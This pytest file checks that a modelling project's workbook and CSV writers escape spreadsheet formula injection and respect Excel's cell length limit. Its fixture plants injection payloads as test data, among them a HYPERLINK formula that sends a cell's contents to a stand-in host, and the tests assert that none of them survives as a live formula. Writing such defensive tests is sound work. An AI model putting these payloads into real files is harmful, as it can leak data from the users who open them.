"""Formula injection and Excel's cell limit, against every writer the project ships.

A name in the input workbook is data: a material named ``=HYPERLINK("http://x/?"&A1,"click")``, a
country ``@SUM(1+1)``, a scenario ``-2+3`` must be text in every file a run writes (the results
workbook with its charts and chart_data sheets, the CSV and IAMC exports, the comparison, sweep and
assessment workbooks), never a formula. The input is made as an attacker would: the example
workbook with those names typed in as text cells."""
from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from model.io.cells import FORMULA_START, MAX_CELL_TEXT, cell_text, cell_value, safe_frame

ROOT = Path(__file__).resolve().parent.parent
EVIL = {
    "gallium": '=HYPERLINK("http://x/?"&A1,"click")',
    "CN": "@SUM(1+1)",
    "ga_cn_ban_2029": "-2+3",
    "JP": "+JP",
}


def _evil_workbook(tmp_path: Path) -> Path:
    path = tmp_path / "evil.xlsx"
    shutil.copy(ROOT / "inputs" / "example_disruptions.xlsx", path)
    wb = openpyxl.load_workbook(path)
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in EVIL:
                    c.value = EVIL[c.value]
                    c.data_type = "s"  # typed in as text, as a user (or an attacker) can
                    n += 1
    assert n > 20
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory):
    from model.pipeline import run_case

    tmp = tmp_path_factory.mktemp("evil")
    run = run_case(_evil_workbook(tmp), outputs=tmp / "outputs", argv=["test"])
    assert EVIL["gallium"] in set(run.results["sourcing"]["material"])
    return run


def _assert_no_formula_xlsx(path: Path) -> int:
    """Every cell of every sheet is a value, no text starts with a formula sign, and no part of
    the file (sheets, charts, drawings) holds a formula with an injected name. Returns the
    number of cells that hold an injected name."""
    hits = 0
    wb = openpyxl.load_workbook(path)  # normal mode: formulas come back as data_type 'f'
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_START), (path.name, ws.title, c.coordinate)
                    hits += any(v in c.value for v in EVIL.values())
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith(".xml"):
                continue
            xml = z.read(name).decode("utf-8")
            for f in re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>(.*?)</(?:\w+:)?f>", xml, flags=re.S):
                assert "HYPERLINK" not in f and "SUM(1+1)" not in f, (path.name, name, f)
            # every text run (cells' inline and shared strings, chart titles <a:t>, series names)
            for t in re.findall(r"<(?:\w+:)?t(?:\s[^>]*)?>([^<]*)<", xml):
                assert not t.startswith(FORMULA_START), (path.name, name, t[:60])
    return hits


def test_results_workbook_has_the_names_as_text_in_every_sheet(evil_run):
    book = evil_run.folder / "results.xlsx"
    wb = openpyxl.load_workbook(book, read_only=True)
    assert {"summary", "charts", "chart_data", "sourcing", "compliance"} <= set(wb.sheetnames)
    wb.close()
    assert _assert_no_formula_xlsx(book) > 100
    with zipfile.ZipFile(book) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/")]
        assert charts and any("'=HYPERLINK" in z.read(n).decode() for n in charts)  # the titles
    wb = openpyxl.load_workbook(book, read_only=True)
    data = {v for row in wb["chart_data"].iter_rows(values_only=True) for v in row if isinstance(v, str)}
    titles = {v for row in wb["charts"].iter_rows(values_only=True) for v in row if isinstance(v, str)}
    wb.close()
    assert "'@SUM(1+1)" in data  # a series name (a legend entry of the charts)
    assert any(t.startswith("'=HYPERLINK") for t in data) and EVIL["gallium"][1:] in str(titles)


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_exports_have_the_names_as_text(evil_run, tmp_path):
    from model.io.export import export_run

    written = export_run(evil_run.folder, formats=("iamc", "csv"), out_dir=tmp_path / "export")
    csvs = [p for p in written if p.suffix == ".csv"]
    assert len(csvs) > 5
    hits = 0
    for p in csvs:
        with open(p, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for v in row:
                    assert not v.startswith(FORMULA_START) or _number(v), (p.name, v)
                    hits += any(e in v for e in EVIL.values())
    assert hits > 50
    assert _assert_no_formula_xlsx(tmp_path / "export" / "iamc.xlsx") > 10


def test_comparison_and_assessment_workbooks_have_the_names_as_text(evil_run, tmp_path):
    from model.analysis.assess import assess_workbook, write_assessment
    from model.analysis.compare import compare

    out, _ = compare([evil_run.folder, evil_run.folder], tmp_path / "compare.xlsx")
    assert _assert_no_formula_xlsx(out) > 10
    table, _ = assess_workbook(_evil_workbook(tmp_path))
    book = write_assessment(table, tmp_path / "assess.xlsx", case="evil")
    assert _assert_no_formula_xlsx(book) > 0


def test_sweep_workbook_has_the_names_as_text(tmp_path):
    from model.analysis.sweep import parse_param, run_sweep, write_sweep
    from model.validate import load

    data = load(_evil_workbook(tmp_path))
    param = parse_param("benchmark.processing.level")
    result = run_sweep(data, param, [0.3, 0.4])
    book, _ = write_sweep(result, tmp_path / "sweep.xlsx", input_name="evil.xlsx")
    assert _assert_no_formula_xlsx(book) > 0


def test_cell_text_rules():
    assert cell_text("=1+1") == "'=1+1" and cell_text("@x") == "'@x" and cell_text("-5") == "'-5"
    assert cell_text("+JP") == "'+JP" and cell_text("#N/A") == "'#N/A" and cell_text("CN") == "CN"
    assert cell_text("a\x00b\x1fc") == "abc"
    long = "x" * 40_000
    cut = cell_text(long)
    assert len(cut) == MAX_CELL_TEXT and cut.endswith("[cut: 40,000 characters, an Excel cell holds 32,767]")
    assert cell_value(float("nan")) is None and cell_value(float("inf")) is None
    df = safe_frame(pd.DataFrame({"=a": ["=b", 1, None]}))
    assert list(df.columns) == ["'=a"] and df["'=a"].tolist()[0] == "'=b"


def test_a_40000_character_name_fits_every_cell(tmp_path):
    """Excel's limit of 32,767 characters a cell, in the results workbook's tables (written as
    XML), its summary and chart data (written by openpyxl)."""
    from model.io.write import write_results
    from model.pipeline import solve_workbook

    run = solve_workbook(ROOT / "inputs" / "example.xlsx")
    name = "n" * 40_000
    for df in run.results.tables.values():
        if "material" in df.columns:
            df["material"] = df["material"].replace("gallium", name)
    book = write_results(tmp_path / "long.xlsx", run.results, {"case": "long"})
    wb = openpyxl.load_workbook(book)
    longest, seen = 0, 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    longest = max(longest, len(c.value))
                    seen += c.value.startswith("nnnn")
    assert longest == MAX_CELL_TEXT and seen > 100
